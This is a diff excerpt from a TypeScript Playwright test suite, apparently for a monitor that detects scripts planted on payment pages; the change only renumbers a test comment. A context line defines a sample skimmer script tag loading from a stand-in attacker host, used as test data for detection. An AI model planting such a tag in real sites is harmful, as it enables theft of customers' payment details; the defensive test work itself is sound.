@@ -9,7 +9,7 @@ const skimmer = '<script src="https://evil.example/skimmer.js"></script>'
 const seenBy = async (page: Page, origin: string, approved: Approved) =>
   compare(await observe(page.context(), origin, approved), approved).map(({ kind, what }) => `${kind}: ${what}`)
 
-// TR-27
+// TR-26
 test("the monitor finds nothing in a payment as released, and a script that was planted", async ({ page, sandbox }) => {
   const origin = sandbox.originOf("b2c")
   const approved = approvedOf(dist, "b2c.localhost", [])
